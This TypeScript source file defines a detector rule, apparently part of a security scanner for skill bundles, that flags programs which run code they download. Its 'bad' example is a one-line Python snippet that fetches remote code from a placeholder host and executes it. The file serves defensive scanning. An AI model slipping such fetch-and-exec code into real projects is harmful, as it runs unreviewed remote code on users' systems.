import type { BundleDetector, BundlePlace, ScannedBundle } from '../detector.ts';
import { hostsOf, isBareAddress, isCatcher, isLocalHost } from '../helpers/destinations.ts';
import type { Effect } from '../programs/effect.ts';

export const runsDownload: BundleDetector = {
  id: 'runs-download',
  severity: 'high',
  consequence: 'advise',
  summary: 'A program runs code that it downloads.',
  explanation:
    'What comes back from a request is handed to an interpreter: at once, by way of a variable or a function, or from ' +
    'a file that it was written to. Nobody can review what is not in the bundle, and it may differ for each person. ' +
    'Commands in documentation that download an installer are another rule’s. Ship the code with the skill, or install ' +
    'a package at a fixed version.',
  examples: {
    bad: {
      path: 'update.py',
      text: 'import requests\nexec(requests.get("https://cdn.example/update").text)\n',
    },
    good: {
      path: 'update.py',
      text: 'import requests\nprint(requests.get("https://cdn.example/news").text)\n',
    },
  },
  inspectBundle: executions,
};

function* executions({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    if (effect.does !== 'execute' || !isRunning(effect)) continue;
    yield { ...effect.at, message: 'The program runs what it downloads.' };
  }
}

const inDocument = /\.(?:md|mdx|markdown|txt|json|ya?ml)$/i;

function isRunning({ code, how, at }: Effect & { does: 'execute' }): boolean {
  const downloads = code.sources.filter(({ origin, isPart }) => origin === 'download' && !isPart);
  if (downloads.length === 0) return false;
  const hosts = downloads.flatMap(({ name }) => hostsOf({ ...code, texts: [name] }));
  if (hosts.length > 0 && hosts.every(isLocalHost)) return false;
  if (hosts.some((host) => isBareAddress(host) || isCatcher(host))) return true;
  const isWhole = code.texts.length === 0;
  if (inDocument.test(at.path) || !isWhole) return false;
  return !/^(?:shell|connection)$/.test(how);
}
